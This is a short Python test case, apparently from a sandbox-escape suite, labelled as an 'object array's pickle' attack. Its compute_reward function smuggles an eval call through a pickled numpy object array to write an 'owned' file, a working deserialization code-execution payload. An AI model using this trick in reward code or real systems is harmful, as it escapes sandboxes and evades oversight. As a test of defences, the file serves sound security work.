# attack: an object array's pickle
# group: numpy
# wall: language; alone: seccomp (no open)

def compute_reward(x):
    import pickle
    class A:
        def __reduce__(self): return eval, ('open("@FOLDER@/owned", "w")',)
    pickle.loads(np.array([A()], object).dumps())
    return x, {}
